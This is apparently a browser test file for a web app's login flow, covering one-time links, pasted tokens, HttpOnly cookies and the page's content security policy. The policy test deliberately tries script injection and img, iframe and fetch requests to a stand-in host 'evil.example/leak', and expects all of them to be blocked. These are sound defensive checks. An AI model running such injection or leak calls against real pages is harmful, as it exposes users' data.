// Getting into the page in a real browser: by the link, by a token, and what protects the page there.
import { openStage } from '@kernmantle/test-support/thread-project';
import { expect } from 'vitest';
import { browserTest, openPage, watchPage } from './support/browser.ts';
import { bearerOf, openServed, serveStage } from './support/serve.ts';

const LOGGED_IN = 'nav';
const KEY = "localStorage.getItem('kernmantle-key')";

browserTest('a link logs in and is gone from the address; a reload stays logged in', async () => {
  const { url, link } = await openServed();
  const { page, requests, reports, errors, dialogs } = await openPage();
  const address = link();
  await page.goto(address);
  await page.locator(LOGGED_IN).first().waitFor();
  expect(page.url()).toBe(`${url}/`);
  const key = await page.evaluate<string>(KEY);
  expect(key).toMatch(/^[\w-]{43}$/);
  // No script sees the cookie.
  expect(await page.evaluate('document.cookie')).toBe('');
  const [cookie] = await page.context().cookies();
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', secure: false });
  await page.reload();
  await page.locator(LOGGED_IN).first().waitFor();
  expect(
    await page.evaluate(
      `fetch('/api/me', { headers: { 'x-kernmantle-key': ${KEY} } }).then(({ status }) => status)`,
    ),
  ).toBe(200);
  // The same link does not work again, in another browser.
  const other = await openPage();
  await other.page.goto(address);
  await other.page.getByText('km web link').first().waitFor();
  // Everything came from this one server, the token was sent once, in a body.
  const token = address.split('#t=')[1] ?? '';
  expect(requests.every((line) => line.split(' ')[1]?.startsWith(`${url}/`))).toBe(true);
  expect(requests.join('\n')).not.toContain(token);
  expect({ reports, errors, dialogs }).toEqual({ reports: [], errors: [], dialogs: [] });
});

browserTest('the policy of the page is in force', async () => {
  const { url, link } = await openServed();
  const { page, reports, requests } = await openPage();
  await page.goto(link());
  await page.locator(LOGGED_IN).first().waitFor();
  const tried = await page.evaluate<string[]>(`[
    () => { document.body.appendChild(document.createElement('div')).innerHTML = '<b>x</b>'; },
    () => { document.write('<b>x</b>'); },
    () => { document.createElement('script').src = 'https://evil.example/x.js'; },
    () => { setTimeout('1'); },
  ].map((act) => { try { act(); return 'done'; } catch (error) { return error.name; } })`);
  expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError']);
  await page.evaluate(`(async () => {
    for (const name of ['img', 'iframe']) {
      document.body.append(Object.assign(document.createElement(name), { src: 'https://evil.example/leak' }));
    }
    await fetch('https://evil.example/leak').catch(() => {});
  })()`);
  await expect
    .poll(() => reports.join('\n'))
    .toMatch(/img-src[^]*connect-src|connect-src[^]*img-src/);
  expect(reports.join('\n')).toContain('require-trusted-types-for');
  expect(requests.filter((line) => !line.includes(url))).toEqual([]);
});

browserTest(
  'another server of this machine gets the cookie and can do nothing with it',
  async () => {
    const stage = await openStage({}, {});
    const [mine, other] = [await serveStage(stage), await serveStage(stage)];
    const { page } = await openPage();
    await page.goto(mine.link());
    await page.locator(LOGGED_IN).first().waitFor();
    const second = await watchPage(await page.context().newPage());
    await second.page.goto(`${other.url}/login`);
    const reached = await second.page.evaluate<boolean>(
      `fetch('${mine.url}/api/me', { credentials: 'include', mode: 'no-cors' }).then(() => true, () => false)`,
    );
    // Its own policy does not even let it ask; and whoever has no policy has no key.
    expect(reached).toBe(false);
    const [cookie] = await page.context().cookies(mine.url);
    const stolen = { cookie: `${cookie?.name}=${cookie?.value}` };
    expect((await mine.get('me', stolen)).status).toBe(401);
  },
);

browserTest('a token that is pasted logs in with its role', async () => {
  const { url, fixture, get } = await openServed();
  const token = bearerOf(fixture, 'view', 'carol')['authorization']?.split(' ')[1] ?? '';
  const { page, errors } = await openPage();
  await page.goto(`${url}/login`);
  await page.locator('#token').fill(token);
  await page.keyboard.press('Enter');
  await page.locator(LOGGED_IN).first().waitFor();
  const key = await page.evaluate<string>(KEY);
  const [cookie] = await page.context().cookies();
  const headers = { cookie: `${cookie?.name}=${cookie?.value}`, 'x-kernmantle-key': key };
  expect((await get('me', headers)).answer.output).toMatchObject({ who: 'carol', role: 'view' });
  expect(errors).toEqual([]);
});
